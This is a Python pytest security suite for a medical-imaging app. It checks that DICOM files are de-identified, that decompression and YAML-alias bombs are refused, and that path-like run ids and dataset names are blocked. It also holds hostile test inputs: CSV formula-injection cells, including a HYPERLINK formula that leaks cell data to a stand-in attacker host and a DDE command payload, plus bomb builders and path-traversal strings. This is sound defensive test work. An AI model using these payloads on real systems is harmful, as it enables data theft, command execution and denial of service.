"""Security (issue 20): each probe that an attacker or a careless user got through, now refused.

Data in: every DICOM is de-identified whatever importer finds it, uploads leave no scratch behind even after a kill,
a killed import leaves no orphan image, and small hostile files (pixel, deflate, YAML alias and zip bombs) are
refused from their structure with one line. Paths: run ids and dataset names that are paths, a cross-origin
WebSocket, formula cells in CSVs, a world-readable workspace, tracebacks on a corrupt database or a pickled
checkpoint. Team mode: sign-in lockout kept in the database, a cap on sign-ins hashed at once, no password left in
session state, an absolute session lifetime, no reviewing one's own reading, quiz answers in the signed-in user's
name only, role checks on every writing action, an append-only audit that records refusals too.
Real components throughout: SQLite files and the tests' PostgreSQL server, the CLI in a subprocess, AppTest, a real
`streamlit run` for the WebSocket; the clock is injected, never waited on."""
from __future__ import annotations

import csv
import io
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import textwrap
import threading
import tracemalloc
import urllib.request
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import numpy as np
import pytest
from PIL import Image
from sqlalchemy import create_engine, text
from sqlalchemy.exc import DBAPIError
from streamlit.testing.v1 import AppTest

from core import settings
from core.cli import main as cli_main
from core.data import archive, importers
from core.data.archive import ArchiveError
from core.data.datasets import DatasetError
from core.data.imaging import ImageReadError, read_image
from core.data.store import AnnotationStore
from core.runs import layout
from core.data import accounts as accounts_module
from core.data.accounts import SHELL, Accounts, PermissionDenied
from tests.helpers.browser import free_port
from tests.helpers.wait import wait_for

ROOT = Path(__file__).resolve().parents[1]


def cli(home: Path, *args: str, umask: int | None = None, stdin: str = "") -> subprocess.CompletedProcess:
    """``python -m core ARGS`` in a subprocess on ``home``, from the repository root."""
    env = {**os.environ, "CERVICURVE_HOME": str(home), "PYTHONPATH": str(ROOT), "OMP_WAIT_POLICY": "PASSIVE",
           "CERVICURVE_THREADS": "1"}
    env.pop("CERVICURVE_DB", None)
    return subprocess.run([sys.executable, "-m", "core", *args], cwd=ROOT, env=env, input=stdin, capture_output=True,
                          text=True, timeout=300, preexec_fn=None if umask is None else (lambda: os.umask(umask)))


# ==============================================================================================================
# Data in: de-identification on every path, scratch and orphans, budgets (parts 1 and 4)
# ==============================================================================================================

NAME, MRN, PREAMBLE = "DOE^JOHN", "MRN-778899", b"PREAMBLE-SECRET-DOE-JOHN"
FILE_STEM = "Doe_John_19610412"  # identifying file name, as exported by many PACS
IDENTIFYING = (b"DOE", b"MRN-778899", b"PREAMBLE-SECRET", FILE_STEM.encode(), b"19610412")


def dicom_bytes(rows: int = 64, columns: int = 64, *, pixels: bytes | None = None, deflated: bool = False,
                frames: int | None = None) -> bytes:
    """A real DICOM with an identifying name, id, birth date and preamble."""
    from pydicom.dataset import Dataset, FileMetaDataset
    from pydicom.uid import DeflatedExplicitVRLittleEndian, ExplicitVRLittleEndian, generate_uid

    meta = FileMetaDataset()
    meta.MediaStorageSOPClassUID = "1.2.840.10008.5.1.4.1.1.1"
    meta.MediaStorageSOPInstanceUID = generate_uid()
    meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian if deflated else ExplicitVRLittleEndian
    ds = Dataset()
    ds.file_meta = meta
    ds.preamble = PREAMBLE.ljust(128, b"!")
    ds.SOPClassUID, ds.SOPInstanceUID = meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID
    ds.PatientName, ds.PatientID, ds.PatientBirthDate = NAME, MRN, "19610412"
    ds.Modality, ds.BurnedInAnnotation = "CR", "NO"
    ds.Rows, ds.Columns, ds.SamplesPerPixel, ds.PhotometricInterpretation = rows, columns, 1, "MONOCHROME2"
    ds.BitsAllocated, ds.BitsStored, ds.HighBit, ds.PixelRepresentation = 16, 12, 11, 0
    if frames:
        ds.NumberOfFrames = frames
    if pixels is None:
        pixels = (np.random.default_rng(0).integers(0, 4096, (rows, columns))).astype(np.uint16).tobytes()
    ds.PixelData = pixels
    out = io.BytesIO()
    ds.save_as(out, enforce_file_format=True)
    return out.getvalue()


def deflated_liar(pixel_bytes: int) -> bytes:
    """A deflated DICOM whose header says 64 x 64 but whose pixel data inflates to ``pixel_bytes`` zeros, built
    in chunks (the whole never exists in memory): the shape of a 1 MB file that inflates to GBs."""
    small = dicom_bytes(deflated=True, pixels=b"")
    meta_end = 132 + 12 + int.from_bytes(small[140:144], "little")  # (0002,0000) gives the meta group's length
    body = zlib.decompress(small[meta_end:], -zlib.MAX_WBITS)
    body = body[:body.rindex(b"\xe0\x7f\x10\x00")]  # up to the (empty) PixelData element
    deflater = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    chunks = [deflater.compress(body + b"\xe0\x7f\x10\x00OW\x00\x00" + pixel_bytes.to_bytes(4, "little"))]
    zeros = bytes(1 << 20)
    chunks += [deflater.compress(zeros) for _ in range(pixel_bytes >> 20)]
    chunks.append(deflater.flush())
    return small[:meta_end] + b"".join(chunks)


@pytest.fixture()
def store(workspace):
    with AnnotationStore() as opened:
        yield opened


def stored_files(workspace: Path) -> list[Path]:
    images = workspace / "images"
    return sorted(p for p in images.rglob("*") if p.is_file()) if images.exists() else []


def assert_deidentified(workspace: Path, store: AnnotationStore, dataset: str) -> None:
    records = store.images(dataset)
    assert records, "nothing was imported"
    for record in records:
        data = (workspace / record.path).read_bytes()
        assert data[128:132] == b"DICM" and data[:128] == bytes(128), "preamble not cleared"
        for secret in IDENTIFYING:
            assert secret not in data, f"{secret!r} survived in the stored file"
        assert record.patient_id.startswith("anon-"), record.patient_id
        assert FILE_STEM not in record.source and "Doe" not in record.source, record.source
        assert record.path.endswith(".dcm")
        for secret in IDENTIFYING:
            assert secret.decode() not in json.dumps(record.meta)


# ---------------------------------------------------------------- 1. de-identification on every path


def importer_layout(kind: str, root: Path) -> Path:
    """The same identifying DICOM in each importer's layout; returns what to import."""
    data = dicom_bytes()
    if kind == "folder":
        (root / "normal").mkdir(parents=True)
        (root / "normal" / f"{FILE_STEM}.dcm").write_bytes(data)
        return root
    if kind == "csv":
        root.mkdir(parents=True)
        (root / f"{FILE_STEM}.dcm").write_bytes(data)
        (root / "manifest.csv").write_text(f"path,label,patient_id\n{FILE_STEM}.dcm,normal,{FILE_STEM}\n")
        return root / "manifest.csv"
    if kind == "yolo":
        (root / "images" / "train").mkdir(parents=True)
        (root / "labels" / "train").mkdir(parents=True)
        (root / "images" / "train" / f"{FILE_STEM}.dcm").write_bytes(data)
        (root / "labels" / "train" / f"{FILE_STEM}.txt").write_text("0 0.5 0.5 0.5 0.5\n")
        (root / "data.yaml").write_text("path: .\ntrain: images/train\nnames: {0: normal}\n")
        return root
    if kind == "coco":
        root.mkdir(parents=True)
        (root / f"{FILE_STEM}.dcm").write_bytes(data)
        coco = {"images": [{"id": 1, "file_name": f"{FILE_STEM}.dcm", "patient_id": FILE_STEM}],
                "annotations": [{"id": 1, "image_id": 1, "bbox": [4, 4, 40, 40], "category_id": 0}],
                "categories": [{"id": 0, "name": "normal"}]}
        (root / "annotations.json").write_text(json.dumps(coco))
        return root / "annotations.json"
    if kind == "csxa":
        (root / "datasets-PNG").mkdir(parents=True)
        (root / "datasets-PNG" / "0001_49.dcm").write_bytes(data)
        (root / "datasets.csv").write_text("CSXA sheet,\nNumber,Curvature: 1.Lordotic 2.Straight\n1,1\n")
        return root
    raise AssertionError(kind)


@pytest.mark.parametrize("kind", ["folder", "csv", "yolo", "coco", "csxa"])
def test_every_importer_stores_a_dicom_only_de_identified(workspace, tmp_path, store, kind):
    from core.data.importers.dispatch import _import_kind

    source = importer_layout(kind, tmp_path / kind)
    report = _import_kind(kind, source, None, dataset=kind, store=store)
    assert report.imported == 1, report.format()
    assert_deidentified(workspace, store, kind)


@pytest.mark.parametrize("kind", ["folder", "csv"])
def test_data_page_zip_upload_stores_a_dicom_only_de_identified(workspace, tmp_path, store, kind):
    source = importer_layout(kind, tmp_path / kind)
    root = source if source.is_dir() else source.parent
    upload = io.BytesIO()
    with zipfile.ZipFile(upload, "w") as zipped:
        for path in sorted(root.rglob("*")):
            if path.is_file():
                zipped.write(path, path.relative_to(root).as_posix())
    report = importers.import_uploads(kind, [(f"{FILE_STEM}.zip", upload.getvalue())], dataset="upload", store=store)
    assert report.imported == 1, report.format()
    assert_deidentified(workspace, store, "upload")
    assert list((workspace / "uploads").iterdir()) == []


def test_import_dicom_clears_the_preamble(workspace, tmp_path, store):
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / f"{FILE_STEM}.dcm").write_bytes(dicom_bytes())
    report = importers.import_dicom(tmp_path / "in", dataset="dicom", store=store)
    assert report.imported == 1
    assert_deidentified(workspace, store, "dicom")


def test_a_stale_scratch_folder_from_a_killed_import_is_swept_by_the_next(workspace, tmp_path, store):
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()  # its pid names a process that is gone, as after a kill -9
    uploads = workspace / "uploads"
    stale = [uploads / f"import-{dead.pid}-ab12cd34", uploads / "upload-k3j4h5g6"]  # the second: before pids
    for folder in stale:
        folder.mkdir(parents=True)
        (folder / f"{FILE_STEM}.dcm").write_bytes(dicom_bytes())
    live = uploads / f"import-{os.getpid()}-livelive"  # an import running now in this process: kept
    live.mkdir()
    upload = io.BytesIO()
    with zipfile.ZipFile(upload, "w") as zipped:
        zipped.writestr(f"normal/{FILE_STEM}.dcm", dicom_bytes())

    importers.import_archive("folder", upload.getvalue(), name="films.zip", store=store)

    assert sorted(p.name for p in uploads.iterdir()) == [live.name]


KILLED_IMPORT = textwrap.dedent("""
    import os, signal, sys
    from core.data import importers
    from core.data.store import AnnotationStore

    def killed(self):  # the files are written, the rows not yet: kill -9 here
        os.kill(os.getpid(), signal.SIGKILL)

    AnnotationStore.batch = killed
    importers.import_folder(sys.argv[1], dataset="killed")
""")


def test_a_killed_import_leaves_no_orphan_image(workspace, tmp_path, store):
    films = tmp_path / "films" / "normal"
    films.mkdir(parents=True)
    for n in range(3):
        Image.fromarray(np.random.default_rng(n).integers(0, 255, (64, 64), dtype=np.uint8)).save(films / f"{n}.png")
    env = {**os.environ, "PYTHONPATH": str(ROOT), "OMP_WAIT_POLICY": "PASSIVE"}
    done = subprocess.run([sys.executable, "-c", KILLED_IMPORT, str(films.parent)], env=env, cwd=ROOT, timeout=120)
    assert done.returncode == -signal.SIGKILL
    assert store.images() == []

    (tmp_path / "next" / "normal").mkdir(parents=True)
    Image.fromarray(np.full((64, 64), 7, np.uint8) + np.eye(64, dtype=np.uint8)).save(tmp_path / "next" / "normal" / "x.png")
    importers.import_folder(tmp_path / "next", dataset="next", store=store)

    known = {record.path for record in store.images()}
    assert {p.relative_to(workspace).as_posix() for p in stored_files(workspace)} == known


def test_a_commit_killed_before_its_rename_is_finished_by_the_next_import(workspace, tmp_path, store):
    (tmp_path / "a" / "normal").mkdir(parents=True)
    Image.fromarray(np.eye(64, dtype=np.uint8) * 200).save(tmp_path / "a" / "normal" / "a.png")
    importers.import_folder(tmp_path / "a", dataset="a", store=store)
    (record,) = store.images("a")
    final = workspace / record.path
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    final.rename(final.with_name(f"{final.name}.{dead.pid}.part"))  # the row is committed, the file not renamed

    assert importers.sweep_partial_images(store) == []
    assert final.is_file() and stored_files(workspace) == [final]


def test_the_app_sweeps_what_a_killed_import_left_when_it_starts(workspace, tmp_path, store, monkeypatch):
    """Not only the next import: the first page a server draws removes dead scratch folders and stray parts."""
    from streamlit.testing.v1 import AppTest

    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    scratch = workspace / "uploads" / f"import-{dead.pid}-ab12cd34"
    scratch.mkdir(parents=True)
    (scratch / f"{FILE_STEM}.dcm").write_bytes(dicom_bytes())
    stray = workspace / "images" / "ab" / f"{'ab' * 32}.png.{dead.pid}.part"
    stray.parent.mkdir(parents=True)
    stray.write_bytes(b"half an image")
    monkeypatch.setenv("CERVICURVE_PRELOAD", "0")
    at = AppTest.from_file(str(ROOT / "pages" / "data.py"), default_timeout=60).run()
    assert not at.exception
    assert not scratch.exists() and not stray.exists()


# ---------------------------------------------------------------- 4. budgets


def test_budget_settings_have_defaults_and_are_checked(monkeypatch):
    assert settings.max_image_pixels() == 50_000_000
    assert settings.max_file_bytes() == 256 * 1024**2 and settings.max_zip_bytes() == 2048 * 1024**2
    monkeypatch.setenv("CERVICURVE_MAX_IMAGE_MPX", "0")
    monkeypatch.setenv("CERVICURVE_MAX_FILE_MB", "lots")
    with pytest.raises(settings.SettingsError) as error:
        settings.check()
    assert "CERVICURVE_MAX_IMAGE_MPX='0'" in str(error.value) and "CERVICURVE_MAX_FILE_MB='lots'" in str(error.value)


def test_an_image_over_the_pixel_budget_is_refused_from_its_header(monkeypatch, tmp_path):
    path = tmp_path / "wide.png"
    Image.new("RGB", (1200, 1000)).save(path)
    assert read_image(path).original_size == (1200, 1000)
    monkeypatch.setenv("CERVICURVE_MAX_IMAGE_MPX", "1")
    with pytest.raises(ImageReadError, match="over the limit of 1,000,000; refused before decoding"):
        read_image(path)


def test_a_colour_image_is_converted_in_float32_never_float64():
    rgb = np.random.default_rng(0).integers(0, 255, (1000, 1500, 3), dtype=np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(rgb).save(buffer, format="PNG", compress_level=0)
    data = buffer.getvalue()
    tracemalloc.start()
    try:
        radiograph = read_image(data, name="colour.png")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert radiograph.pixels.dtype == np.float32
    expected = (rgb.astype(np.float64) @ [0.299, 0.587, 0.114]) / 255
    assert np.abs(radiograph.pixels - expected).max() < 1e-5
    # 1.5 Mpx: float64 RGB alone would be 36 MB; uint8 RGB + float32 gray + one float32 channel is ~17 MB.
    assert peak < 26 * 1024**2, peak / 1024**2


def test_a_dicom_declaring_more_pixel_data_than_the_budget_is_refused_before_decoding(workspace, tmp_path, store):
    # 4000 x 4000 x 20 frames x 16 bits = 610 MiB declared, 16 Mpx a frame: only the byte budget catches it.
    bomb = dicom_bytes(4000, 4000, pixels=b"\0" * 64, frames=20)
    with pytest.raises(ImageReadError, match="declares 610.4 MiB of pixel data.*CERVICURVE_MAX_FILE_MB"):
        read_image(bomb, name="bomb.dcm")
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "bomb.dcm").write_bytes(bomb)
    report = importers.import_dicom(tmp_path / "in", dataset="d", store=store)
    assert report.imported == 0 and "CERVICURVE_MAX_FILE_MB" in report.skipped[0][1]
    assert stored_files(workspace) == []


def test_a_deflated_dicom_is_inflated_only_up_to_the_budget(workspace, tmp_path, store, monkeypatch):
    good = dicom_bytes(deflated=True)
    assert read_image(good, name="good.dcm").original_size == (64, 64)
    bomb = deflated_liar(64 * 1024**2)  # 64 KB on disk, 64 MiB inflated, 8 KiB declared (64 x 64 x 16 bit)
    assert len(bomb) < 200_000
    tracemalloc.start()
    try:
        with pytest.raises(ImageReadError, match="inflates to more than its header declares"):
            read_image(bomb, name="bomb.dcm")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 8 * 1024**2, peak / 1024**2  # stopped near what the header declares, not after 64 MiB
    # A header that cannot be parsed from the first inflated MiB: the byte budget is the cap.
    monkeypatch.setenv("CERVICURVE_MAX_FILE_MB", "2")
    monkeypatch.setattr("core.data.imaging._HEADER_PEEK", 16)
    with pytest.raises(ImageReadError, match="inflates past 2.0 MiB"):
        read_image(bomb, name="bomb.dcm")
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / "bomb.dcm").write_bytes(bomb)
    report = importers.import_dicom(tmp_path / "in", dataset="d", store=store)
    assert report.imported == 0 and "inflates past" in report.skipped[0][1]


BOMB = ('a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
        'b: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n'
        'c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\n')  # 729 items: tiny, since the refusal is on structure


def test_a_yaml_alias_bomb_in_a_yolo_data_yaml_is_refused_with_one_line(workspace, tmp_path, capsys):
    source = importer_layout("yolo", tmp_path / "yolo")
    (source / "data.yaml").write_text(BOMB + "path: .\ntrain: images/train\nnames: *c\n")
    with pytest.raises(DatasetError, match="anchors and aliases"):
        importers.import_yolo(source, dataset="y")
    assert cli_main(["import", "yolo", str(source), "--dataset", "y"]) == 2
    out = capsys.readouterr().out.strip()
    assert len(out.splitlines()) == 1 and "aliases" in out and "Traceback" not in out
    assert stored_files(workspace) == []


def test_a_yaml_alias_bomb_in_a_run_config_is_refused(tmp_path):
    from core.runs.configs import ConfigError, read_config_source

    config = tmp_path / "bomb.yaml"
    config.write_text(BOMB + "task: classify\n")
    with pytest.raises(ConfigError, match="anchors and aliases"):
        read_config_source(config)


def test_a_zip_member_over_the_file_budget_is_refused_from_its_header(workspace, tmp_path, monkeypatch):
    monkeypatch.setenv("CERVICURVE_MAX_FILE_MB", "1")
    path = tmp_path / "big.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as zipped:  # stored: no ratio, only the size
        zipped.writestr("normal/a.png", os.urandom(2 * 1024**2))
    with pytest.raises(ArchiveError, match="allowed for one file"):
        archive.extract_zip(path, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_zip_member_that_inflates_more_than_the_ratio_is_refused(workspace, tmp_path, capsys):
    path = tmp_path / "bomb.zip"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zipped:
        zipped.writestr("normal/a.png", bytes(4 * 1024**2))  # 4 MiB of zeros: ~1000:1
    with pytest.raises(ArchiveError, match="a decompression bomb"):
        archive.extract_zip(path, tmp_path / "out")
    assert cli_main(["import", "folder", str(path), "--dataset", "z"]) == 2
    out = capsys.readouterr().out.strip()
    assert len(out.splitlines()) == 1 and "decompression bomb" in out
    assert stored_files(workspace) == [] and list((workspace / "uploads").iterdir()) == []


def test_an_image_file_over_the_file_budget_is_skipped_unread(workspace, tmp_path, store, monkeypatch):
    monkeypatch.setenv("CERVICURVE_MAX_FILE_MB", "1")
    (tmp_path / "in" / "normal").mkdir(parents=True)
    (tmp_path / "in" / "normal" / "huge.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(2 * 1024**2))
    report = importers.import_folder(tmp_path / "in", dataset="h", store=store)
    assert report.imported == 0 and "CERVICURVE_MAX_FILE_MB" in report.skipped[0][1], report.format()
    with pytest.raises(ImageReadError, match="over the 1.0 MiB limit"):
        read_image(tmp_path / "in" / "normal" / "huge.png")


# ==============================================================================================================
# Paths, origins, exports, file modes, corrupt databases, checkpoints (parts 2, 3 and 6)
# ==============================================================================================================

def one_line_refusal(done: subprocess.CompletedProcess) -> str:
    """The refusal's one line; fails on a traceback, on success, or on more than one line."""
    output = done.stdout + done.stderr
    assert done.returncode != 0, output
    assert "Traceback" not in output, output
    lines = [line for line in output.splitlines() if line.strip()]
    assert len(lines) == 1, output
    return lines[0]


def finished_run(task: str = "classify") -> Path:
    """A real run folder under runs/, as a finished run leaves it (config, status done, best.pt)."""
    run_dir = layout.new_run_dir("cnn", task)
    (run_dir / layout.CONFIG_FILE).write_text(f"task: {task}\nmodel: cnn\n", encoding="utf-8")
    layout.write_status(run_dir, {"state": "done", "task": task, "model": "cnn", "epoch": 1, "epochs": 1})
    (run_dir / "best.pt").write_bytes(b"weights")
    return run_dir


def run_like_folder(path: Path) -> Path:
    """A folder outside runs/ that holds a run's files (what a path-accepting resolver takes for a run)."""
    path.mkdir(parents=True)
    (path / layout.CONFIG_FILE).write_text("task: classify\nmodel: cnn\n", encoding="utf-8")
    (path / layout.STATUS_FILE).write_text(json.dumps({"state": "failed", "task": "classify"}), encoding="utf-8")
    (path / "best.pt").write_bytes(b"weights")
    (path / "keep.txt").write_text("mine")
    return path


def tree(path: Path) -> set[str]:
    return {str(p.relative_to(path)) for p in path.rglob("*")}


def png_bytes(seed: int, size: int = 64) -> bytes:
    pixels = (np.random.default_rng(seed).random((size, size)) * 255).astype(np.uint8)
    buffer = io.BytesIO()
    Image.fromarray(pixels).save(buffer, format="PNG")
    return buffer.getvalue()


def write_manifest(folder: Path, patients: list[str]) -> Path:
    """A CSV-importer manifest of one 64 px film per patient, with class and box."""
    (folder / "images").mkdir(parents=True)
    rows = [["path", "label", "patient_id", "x1", "y1", "x2", "y2"]]
    for number, patient in enumerate(patients):
        (folder / "images" / f"f{number}.png").write_bytes(png_bytes(number))
        rows.append([f"images/f{number}.png", ("normal", "straightened", "reversed")[number % 3], patient,
                     "4", "4", "40", "50"])
    with (folder / "manifest.csv").open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return folder / "manifest.csv"


# ---------------------------------------------------------------------------------------------- run ids


def test_run_verbs_refuse_anything_but_a_run_folder_directly_under_runs(workspace, tmp_path, capsys):
    """Before: `runs delete ''` removed every run, `..` the workspace, a path any folder; cancel, resume, promote
    and status resolved the same way."""
    run = finished_run()
    other = finished_run()
    victim = run_like_folder(tmp_path / "elsewhere" / "20250101-000000-classify-cnn-abcd")
    (settings.runs_dir() / "20250101-000000-classify-cnn-beef").symlink_to(victim)  # a link in runs/ to outside
    before_victim, before_runs = tree(victim), tree(settings.runs_dir())
    bad = ["", ".", "..", "../..", str(victim), str(victim.parent), str(settings.runs_dir()), str(workspace),
           f"{run}/..", f"{run}/../{other.name}/../..", f"{run.name}/../{other.name}", "/",
           "20250101-000000-classify-cnn-beef", str(settings.runs_dir() / "20250101-000000-classify-cnn-beef")]
    for arg in bad:
        for argv in (["runs", "delete", arg], ["runs", "cancel", arg], ["runs", "resume", arg],
                     ["runs", "promote", arg], ["promote", arg], ["runs", "status", arg]):
            assert cli_main(argv) == 2, argv
            err = capsys.readouterr().err
            assert err.startswith("error: ") and err.count("\n") == 1, (argv, err)
    assert tree(victim) == before_victim and tree(settings.runs_dir()) == before_runs
    assert not (settings.promoted_dir() / "classify").exists()
    # a run id, or the path of a run under runs/, still works
    assert cli_main(["runs", "status", run.name]) == 0
    assert cli_main(["runs", "delete", str(run)]) == 0 and not run.exists()
    assert cli_main(["runs", "delete", other.name]) == 0 and not other.exists()
    assert tree(victim) == before_victim


@pytest.mark.slow
def test_runs_delete_from_the_shell_leaves_the_workspace_and_other_folders(workspace, tmp_path):
    run = finished_run()
    victim = run_like_folder(tmp_path / "victim")
    (workspace / "cervicurve.db").write_bytes(b"")  # the workspace's own files must survive too
    before = tree(workspace)
    for arg in ("..", "", str(victim), "../../victim"):
        line = one_line_refusal(cli(workspace, "runs", "delete", arg))
        assert line.startswith("error: no run "), line
        assert tree(workspace) == before and (victim / "keep.txt").exists() and run.is_dir()
    one_line_refusal(cli(workspace, "runs", "cancel", ".."))
    one_line_refusal(cli(workspace, "runs", "resume", str(victim)))
    assert tree(workspace) == before


def test_pages_and_core_share_one_run_check(workspace):
    run = finished_run()
    assert layout.run_path(run.name) == run == layout.run_path(str(run)) == layout.resolve_run(run.name)
    for value in ("", "..", "x", "20250101-000000-classify-cnn-abc", "a/b", f"{run.name}/.."):
        with pytest.raises(layout.JobError):
            layout.run_path(value)


# ---------------------------------------------------------------------------------------------- dataset names


@pytest.mark.slow
def test_a_dataset_name_that_is_a_path_is_refused_at_import(workspace, tmp_path):
    """Before: `import csv --dataset ../../x` stored the dataset as named (the Data page's export then wrote
    outside the workspace)."""
    manifest = write_manifest(tmp_path / "src", ["P1", "P2", "P3"])
    for name in ("../../x", ".hidden", "a/b", "x" * 101, " lead", "tab\there", "..", "a\\b"):
        line = one_line_refusal(cli(workspace, "import", "csv", str(manifest), "--dataset", name))
        assert "dataset name" in line, line
    from core.data.store import AnnotationStore

    with AnnotationStore() as store:
        assert store.datasets() == []
    assert not any(p.is_file() for p in (workspace / "images").rglob("*"))  # the copied files were taken back
    for name in ("films-2024.v1", "ward 7"):
        done = cli(workspace, "import", "csv", str(manifest), "--dataset", name)
        assert done.returncode == 0, done.stdout + done.stderr


def test_the_data_page_refuses_a_path_as_dataset_name_before_importing(workspace):
    from streamlit.testing.v1 import AppTest

    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("pages/data.py").run()
    at.selectbox(key="import_layout").set_value("phantom").run()
    at.number_input(key="phantom_patients").set_value(3)
    at.number_input(key="phantom_size").set_value(128)
    at.text_input(key="dataset_name_phantom").input("../../escape").run()
    at.button(key="import_button").click().run()
    assert not at.exception
    assert any("dataset name '../../escape' refused" in e.value for e in at.error), [e.value for e in at.error]
    from core.data.store import AnnotationStore

    with AnnotationStore() as store:
        assert store.datasets() == []


def legacy_dataset(name: str, manifest: Path) -> None:
    """A dataset imported before names were checked: imported under a plain name, then renamed in the database."""
    from sqlalchemy import update

    from core.data import importers
    from core.data.store import AnnotationStore, images_table

    with AnnotationStore() as store:
        importers.import_csv(manifest, dataset="plain", store=store)
        with store._write() as conn:
            conn.execute(update(images_table).values(dataset=name))


def test_the_data_page_export_of_a_path_like_dataset_writes_nothing_outside_the_workspace(workspace, tmp_path):
    """Before: a dataset named ../../escape was exported to <workspace>/exports/../../escape-csv-<time>.zip."""
    from streamlit.testing.v1 import AppTest

    legacy_dataset("../../escape", write_manifest(tmp_path / "src", ["P1", "P2", "P3"]))
    outside_before = tree(tmp_path) - {p for p in tree(tmp_path) if p.startswith("workspace")}
    at = AppTest.from_file(str(ROOT / "app.py"), default_timeout=60).run()
    at.switch_page("pages/data.py").run()
    at.selectbox(key="export_dataset").set_value("../../escape")
    at.selectbox(key="export_kind").set_value("csv")
    at.button(key="export_button").click().run()
    assert not at.exception
    assert any("refused" in e.value for e in at.error), [e.value for e in at.error]
    outside_after = tree(tmp_path) - {p for p in tree(tmp_path) if p.startswith("workspace")}
    assert outside_after == outside_before
    assert not list((workspace / "exports").glob("*")) if (workspace / "exports").exists() else True
    # and from the shell
    line = one_line_refusal(cli(workspace, "export", "csv", "--dataset", "../../escape", "--out",
                                str(tmp_path / "out")))
    assert "refused" in line and not (tmp_path / "out").exists()


def test_export_is_an_admin_action_in_team_mode(workspace, tmp_path):
    """Before: any signed-in role could export every patient's films (no role check)."""
    from core.data import exports, importers
    from core.data.accounts import Accounts, PermissionDenied

    importers.import_csv(write_manifest(tmp_path / "src", ["P1", "P2", "P3"]), dataset="films")
    with Accounts() as accounts:
        accounts.add_user("ada", "correct horse", "admin")
        accounts.add_user("ann", "annotator pw", "annotator")
        annotator, admin = accounts.sign_in("ann", "annotator pw"), accounts.sign_in("ada", "correct horse")
    for actor in (annotator, None, "forged-token"):
        with pytest.raises(PermissionDenied):
            exports.export_archive("csv", "films", actor=actor)
    assert not list(settings.exports_dir().glob("*"))
    archive, report = exports.export_archive("csv", "films", actor=admin)
    assert archive.parent == settings.exports_dir() and archive.name.startswith("films-csv-") and report.written == 3
    assert [p for p in settings.exports_dir().iterdir()] == [archive]  # the folder it was built in is gone


# ---------------------------------------------------------------------------------------------- CSV cells


def test_exported_csv_cells_never_start_a_formula(workspace, tmp_path):
    """Before: a patient id `=HYPERLINK(...)` went into manifest.csv as it came, a formula in a spreadsheet."""
    from core.data.exports import spreadsheet_safe

    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|x",
               "-3.2"]
    importers_manifest = write_manifest(tmp_path / "src", hostile)
    assert cli_main(["import", "csv", str(importers_manifest), "--dataset", "films"]) == 0
    assert cli_main(["export", "csv", "--dataset", "films", "--out", str(tmp_path / "csv")]) == 0
    assert cli_main(["export", "labelme", "--dataset", "films", "--out", str(tmp_path / "labelme")]) == 0
    for table, column in ((tmp_path / "csv" / "manifest.csv", "patient_id"),
                          (tmp_path / "labelme" / "datasets.csv", "patient_id")):
        with table.open(newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        patients = sorted(row[column] for row in rows)
        assert patients == sorted(["'" + p for p in hostile[:4]] + ["-3.2"]), patients
        for row in rows:
            for value in row.values():
                assert not value.startswith(("=", "+", "@")) and not (value.startswith("-") and value != "-3.2"), row
    # numbers are data, not formulas: kept as they are; so is text that is just a number
    assert spreadsheet_safe(-3.2) == -3.2 and spreadsheet_safe("-3.2") == "-3.2" and spreadsheet_safe("1e-3") == "1e-3"
    assert [spreadsheet_safe(v) for v in ("=1+1", "\t=1", "\r=1", "-", "+", "a=b")] == \
        ["'=1+1", "'\t=1", "'\r=1", "'-", "'+", "a=b"]


# ---------------------------------------------------------------------------------------------- file modes


@pytest.mark.slow
def test_the_workspace_and_what_core_writes_in_it_are_private(tmp_path):
    """Before: cervicurve.db (password hashes) and images/ were created 0644 / 0755 under the usual umask 022."""
    home = tmp_path / "new-workspace"
    manifest = write_manifest(tmp_path / "src", ["P1", "P2", "P3"])
    assert cli(home, "import", "csv", str(manifest), "--dataset", "films", umask=0o022).returncode == 0
    assert cli(home, "users", "list", umask=0o022).returncode == 0
    assert cli(home, "runs", "list", umask=0o022).returncode == 0
    mode = lambda path: stat.S_IMODE(path.stat().st_mode)  # noqa: E731
    assert mode(home) == 0o700
    assert mode(home / "cervicurve.db") == 0o600
    inside = [p for p in home.rglob("*")]
    assert any(p.parent.parent.name == "images" for p in inside if p.is_file())
    assert {oct(mode(p)) for p in inside if p.is_file()} == {oct(0o600)}, \
        [(str(p), oct(mode(p))) for p in inside if p.is_file() and mode(p) != 0o600]
    assert {oct(mode(p)) for p in inside if p.is_dir()} == {oct(0o700)}


# ---------------------------------------------------------------------------------------------- corrupt database


@pytest.mark.slow
def test_every_cli_verb_on_a_corrupt_database_prints_one_line(workspace, tmp_path):
    """Before: `users list`, `labels progress`, `split` and `db backup` printed tracebacks."""
    manifest = write_manifest(tmp_path / "src", ["P1", "P2", "P3"])
    (workspace / "cervicurve.db").write_bytes(np.random.default_rng(0).bytes(16384))
    config = tmp_path / "run.yaml"
